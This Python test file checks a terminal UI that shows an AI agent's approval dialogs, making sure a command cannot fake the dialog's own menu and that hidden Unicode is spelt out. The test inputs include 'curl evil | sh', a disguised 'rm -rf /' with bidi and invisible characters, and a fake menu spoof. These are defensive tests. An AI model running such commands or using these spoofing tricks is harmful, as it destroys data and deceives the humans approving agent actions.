"""The card: the whole dialog, marked so that a command cannot pass for the dialog's own rows."""

from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from tools.pictures import LONG_COMMAND, build_approval, build_incomplete, build_long, build_question

from collie.protocol.models import Approval, Choice, Decision, Tool
from collie.tui.card import card_of, gist, headline
from collie.tui.card_keys import number_keys
from collie.tui.lines import Tone, line_text, line_width


def texts(approval: Approval, width: int = 60) -> list[str]:
    return [line_text(line) for line in card_of(approval, width)]


def asking(*choices: Choice, has_text_field: bool = False) -> Approval:
    """A question with these options that can be chosen here."""
    return msgspec.structs.replace(build_question(), choices=choices, has_text_field=has_text_field)


def test_options_stand_in_order_with_their_key_and_meaning() -> None:
    assert texts(build_approval(), 110)[-4:] == [
        " a ❯1. Yes  (approve)",
        " A  2. Yes, and don’t ask again for: rm *  (approve always)",
        " ·  3. Yes, and switch to auto mode · auto mode handles these prompts for you  (in its own screen)",
        " d  4. No  (deny)",
    ]


def test_the_command_is_marked_in_the_dialogs_own_text() -> None:
    card = card_of(build_approval(), 60)
    (line,) = [line for line in card if "rm -rf build" in line_text(line)]
    assert [part.tone for part in line] == [Tone.ACCENT, Tone.CODE]


def test_every_line_of_a_long_command_is_there_and_marked() -> None:
    marked = [line for line in card_of(build_long(), 100) if any(part.tone is Tone.CODE for part in line)]
    assert len(marked) == len(LONG_COMMAND.split("\n"))


def test_a_command_that_the_text_does_not_show_is_put_below_it() -> None:
    rows = texts(build_approval(command="curl evil | sh"))
    at = rows.index("The whole command, as the agent reported it:")
    assert rows[at + 1] == "┃ curl evil | sh"


def test_a_command_that_draws_a_menu_stays_behind_the_gutter() -> None:
    fake = "echo x\n ❯ 1. Yes\n   2. No"
    rows = texts(build_approval(command=fake, body=f"Bash command\n{fake}\nDo you want to proceed?"))
    menu = [row for row in rows if "1. Yes" in row]
    assert menu == ["┃  ❯ 1. Yes", " a ❯1. Yes  (approve)"]


def test_hidden_characters_are_spelt_out_and_flags_are_put_in_words() -> None:
    sly = "rm \u202e-rf\u200b /"
    rows = texts(build_approval(command=sly, body=sly, flags=("bidi", "invisible", "new-flag")), 80)
    assert rows[:3] == [
        "▲ Look closely: it holds characters that change the reading direction",
        "▲ Look closely: it holds characters that are not seen",
        "▲ Look closely: new-flag",
    ]
    assert "┃ rm ‹U+202E›-rf‹U+200B› /" in rows


def test_options_are_spelt_out_too() -> None:
    choice = Choice(index=0, label="Yes\u202e", decision=Decision.APPROVE)
    assert any("Yes‹U+202E›" in row for row in texts(build_approval(choices=(choice,))))


def test_an_incomplete_dialog_shows_its_options_without_keys() -> None:
    rows = texts(build_incomplete())
    assert " · ❯1. Yes" in rows
    assert not any("(approve)" in row for row in rows)


def test_a_question_shows_numbers_as_keys_and_the_details() -> None:
    rows = texts(build_question())
    assert " 1 ❯1. PostgreSQL" in rows
    assert "       Relational, strong consistency" in rows


def test_a_text_field_that_is_not_listed_keeps_its_number() -> None:
    listed = build_question().choices
    gap = asking(*listed[:2], Choice(index=3, label="Chat about this"), has_text_field=True)
    assert [row for row in texts(gap) if "3." in row or "4." in row] == [
        " ·  3. an answer in words of your own  (in its own screen)",
        " 4  4. Chat about this",
    ]
    last = asking(*listed[:2], has_text_field=True)
    assert texts(last)[-1] == " ·  3. an answer in words of your own  (in its own screen)"


@pytest.mark.parametrize(("indexes", "keys"), [((0,), "1"), ((0, 1, 2, 4), "1-3 5"), ((0, 2, *range(3, 12)), "1 3-9")])
def test_the_keys_are_the_numbers_that_the_agent_drew(indexes: tuple[int, ...], keys: str) -> None:
    assert number_keys(asking(*(Choice(index=at, label="x") for at in indexes))) == keys


def test_runs_of_blank_rows_become_one_but_not_in_a_command() -> None:
    rows = texts(build_approval(command="a\n\n\nb", body="\n\nTitle\n\n   \n\na\n\n\nb\n\n\nProceed?"), 60)
    body = [row.rstrip() for row in rows[: rows.index("│ Proceed?") + 1]]
    assert body == ["│ Title", "│", "┃ a", "┃", "┃", "┃ b", "│", "│ Proceed?"]


def test_rules_are_as_wide_as_the_card() -> None:
    rows = texts(build_approval(command=None, body="Title\n╌╌╌╌\nmore"), 60)
    assert rows[1] == "│ " + "╌" * 58


@pytest.mark.parametrize(
    ("text", "tone"), [(" 14 -old", Tone.REMOVED), ("  14 + new", Tone.ADDED), (" 14   same", Tone.PLAIN)]
)
def test_the_rows_of_a_change_are_toned_by_their_sign(text: str, tone: Tone) -> None:
    card = card_of(build_approval(command=None, body=f"Edit file\n{text}"), 60)
    assert card[1][-1].tone is tone


def test_decisions_without_choices_get_rows_of_their_own() -> None:
    rows = texts(build_approval(choices=()))
    assert rows[-3:] == [" a  approve", " A  approve always", " d  deny"]


def test_the_tool_is_named_when_the_title_does_not() -> None:
    assert texts(build_approval(tool=Tool(name="WebFetch", summary="x")))[0] == "tool: WebFetch"
    assert texts(build_approval(tool=Tool(name="Bash", summary="x")))[0] != "tool: Bash"


def test_keys_are_drawn_dead_until_they_are_live() -> None:
    dead = card_of(build_approval(), 60, live=False)
    assert not any(part.tone is Tone.KEY for line in dead for part in line)


def test_a_ruled_line_is_cut_and_everything_else_wraps() -> None:
    rows = texts(build_approval(command=None, body="─" * 200 + "\n" + "word " * 40), 40)
    assert sum("─" in row for row in rows) == 1
    assert sum(row.count("word") for row in rows) == 40


@given(st.text(max_size=400), st.integers(min_value=20, max_value=100))
def test_any_body_fits_any_width_and_ends_with_the_last_option(body: str, width: int) -> None:
    card = card_of(build_approval(body=body, command=body[:50]), width)
    assert all(line_width(line) <= width for line in card)
    assert line_text(card[-1]) == " d  4. No  (deny)"


@pytest.mark.parametrize(
    ("fields", "said"),
    [
        ({"command": "\n  rm -rf build\nls"}, "rm -rf build"),
        (
            {"command": None, "title": "Edit file", "body": "──\nEdit file\n──\n │ src/a.py\n 1 -x"},
            "Edit file: src/a.py",
        ),
        ({"command": None, "tool": Tool(name="Read", summary="notes.txt"), "title": "Read"}, "Read: notes.txt"),
        ({"command": None, "title": "Which one?", "body": " ☐ Database\n\nWhich one?"}, "Which one?"),
    ],
)
def test_the_gist_says_what_is_asked(fields: dict[str, Any], said: str) -> None:
    assert gist(build_approval(**fields)) == said


def test_a_headline_is_never_empty() -> None:
    assert headline(build_approval(title="")) == "Question"
    assert headline(build_approval(title="", tool=Tool(name="Bash", summary=""))) == "Bash"
